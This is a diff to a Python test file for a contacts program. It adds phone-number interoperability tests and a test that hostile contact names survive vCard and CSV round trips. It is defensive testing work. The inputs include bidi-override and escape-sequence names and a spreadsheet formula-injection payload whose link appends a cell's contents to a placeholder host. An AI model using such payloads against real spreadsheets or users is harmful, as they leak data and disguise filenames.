@@ -1,18 +1,25 @@
 # SPDX-FileCopyrightText: 2026 The KORVANE developers
 # SPDX-License-Identifier: GPL-3.0-or-later
 """Contacts files against independent readers and writers: Debian's vobject
-for vCard and Python's csv module for CSV. CONTACTSTOOL names the small program that
-imports and exports through the contacts library."""
+for vCard and Python's csv module for CSV; phone numbers against Debian's
+phonenumbers, another implementation over the same metadata as libphonenumber.
+CONTACTSTOOL names the small program that imports and exports through the
+contacts library, KORVANE the program."""
 
 import csv
 import io
 import json
 import os
+import re
 import subprocess
 import tempfile
 import unittest
 
+import phonenumbers
 import vobject
+from phonenumbers import PhoneNumberFormat, PhoneNumberType
+
+from test_cli import Home
 
 TOOL = os.environ["CONTACTSTOOL"]
 
@@ -33,6 +40,47 @@ def run_import(path, country="UK"):
 
 def run_export(path, book):
     subprocess.run([TOOL, "export", path], input=json.dumps(book).encode(), check=True, timeout=60)
+
+
+def run_numbers(numbers, country="UK"):
+    """The rule's verdict on each number, and the book's form of each."""
+    done = subprocess.run([TOOL, "numbers", country], input="\n".join(numbers).encode(), capture_output=True,
+                          check=True, timeout=60)
+    return json.loads(done.stdout)
+
+
+def book_form(number):
+    return "00" + str(number.country_code) + phonenumbers.national_significant_number(number)
+
+
+def valid_in_plan(book_number):
+    try:
+        return phonenumbers.is_valid_number(phonenumbers.parse("+" + book_number[2:]))
+    except phonenumbers.NumberParseException:
+        return False
+
+
+def example_mobiles():
+    """Every region's example mobile number (or its general example), by region."""
+    examples = {}
+    for region in sorted(phonenumbers.SUPPORTED_REGIONS):
+        example = (phonenumbers.example_number_for_type(region, PhoneNumberType.MOBILE)
+                   or phonenumbers.example_number(region))
+        if example is not None:
+            examples[region] = example
+    return examples
+
+
+# Names made to hurt: control characters, bidi overrides and isolates,
+# zero-width characters, the longest name and one more, spreadsheet formulas.
+HOSTILE = ["Two\nLines", "Tab\there", " Spaced ", "bell\x07 and \x1b[31mred", "\u202eexe.txt",
+           "\u2066isolated\u2069", "zero\u200bwidth", "x" * 255, "y" * 256, '=HYPERLINK("http://x"&B2,"x")',
+           "+1", "@x", "-x", "'=quoted", "\tlead", "a,b;c\"d"]
+
+
+def one_form(name):
+    """A name as the book keeps it: runs of control characters as one space, the ends trimmed."""
+    return re.sub("[\x00-\x1f\x7f-\x9f\u2028\u2029]+", " ", name).strip()
 
 
 class ContactsInterop(unittest.TestCase):
@@ -113,6 +161,78 @@ class ContactsInterop(unittest.TestCase):
             with self.subTest(file=name):
                 run_export(self.path(name), BOOK)
                 self.assertEqual(run_import(self.path(name))["book"], BOOK)
+
+
+
+class NumbersInterop(unittest.TestCase):
+    def test_the_rule_accepts_what_the_plans_find_valid(self):
+        numbers = []
+        for example in example_mobiles().values():
+            whole = book_form(example)
+            numbers += [whole, whole[:-1], whole[:-2]]
+        verdicts = run_numbers(numbers)
+        # Widened, never narrowed: 14 to 17 characters pass as before.
+        expected = {n: (valid_in_plan(n) or len(n) >= 14) and len(n) <= 17 for n in numbers}
+        self.assertEqual({n: v["rule"] for n, v in zip(numbers, verdicts)}, expected)
+        self.assertGreater(sum(expected.values()), 240)
+
+    def test_numbers_as_people_write_them(self):
+        countries = {"UK": "GB", "Ireland": "IE", "Australia": "AU", "Germany": "DE", "Switzerland": "CH",
+                     "Austria": "AT", "France": "FR", "Belgium": "BE", "Spain": "ES", "Portugal": "PT"}
+        examples = example_mobiles()
+        for country, region in countries.items():
+            with self.subTest(country):
+                home = examples[region]
+                # The home country's numbers nationally, and every region's in its international and URI forms.
+                written = [phonenumbers.format_number(home, PhoneNumberFormat.NATIONAL)]
+                expected = [book_form(home)]
+                for example in examples.values():
+                    written += [phonenumbers.format_number(example, PhoneNumberFormat.INTERNATIONAL),
+                                phonenumbers.format_number(example, PhoneNumberFormat.RFC3966)]
+                    whole = book_form(example) if len(book_form(example)) <= 17 else ""
+                    expected += [whole, whole]
+                self.assertEqual([v["number"] for v in run_numbers(written, country)], expected)
+
+
+class HostileNames(unittest.TestCase):
+    """Names go through contacts add, export, import into an empty book and export again, in both formats, and
+    come back as the book holds them."""
+
+    def setUp(self):
+        self.home = Home()
+        self.addCleanup(self.home.folder.cleanup)
+
+    def test_names_come_back_as_the_book_holds_them(self):
+        for i, name in enumerate(HOSTILE):
+            done = self.home.run("contacts", "add", "--", name, "00447700900%03d" % i)
+            if len(name) > 255:
+                self.assertEqual((done.returncode, done.stderr.decode()),
+                                 (1, "The name has 256 characters; a recipient's name has 255 at most.\n"))
+            else:
+                self.assertEqual((done.returncode, done.stderr), (0, b""), name)
+        book = self.home.book()
+        self.assertEqual([e["name"] for e in book], [one_form(n) for n in HOSTILE if len(n) <= 255])
+
+        for name in ("book.vcf", "book.csv"):
+            with self.subTest(file=name):
+                first = os.path.join(self.home.folder.name, name)
+                self.home.korvane("contacts", "export", first)
+                other = Home()
+                self.addCleanup(other.folder.cleanup)
+                other.korvane("contacts", "import", first)
+                self.assertEqual(other.book(), book)
+                second = os.path.join(other.folder.name, name)
+                other.korvane("contacts", "export", second)
+                with open(first, "rb") as a, open(second, "rb") as b:
+                    self.assertEqual(a.read(), b.read())
+
+        with open(os.path.join(self.home.folder.name, "book.vcf"), encoding="utf-8") as f:
+            self.assertEqual([card.fn.value for card in vobject.readComponents(f.read())], [e["name"] for e in book])
+        with open(os.path.join(self.home.folder.name, "book.csv"), encoding="utf-8", newline="") as f:
+            cells = [row[0] for row in csv.reader(f)][1:]
+        # What a spreadsheet would run as a formula has an apostrophe in front.
+        self.assertEqual([cell for cell in cells if cell[0] in "=+-@'\t\r"],
+                         ["'" + name for name in ('=HYPERLINK("http://x"&B2,"x")', "+1", "@x", "-x", "'=quoted")])
 
 
 if __name__ == "__main__":
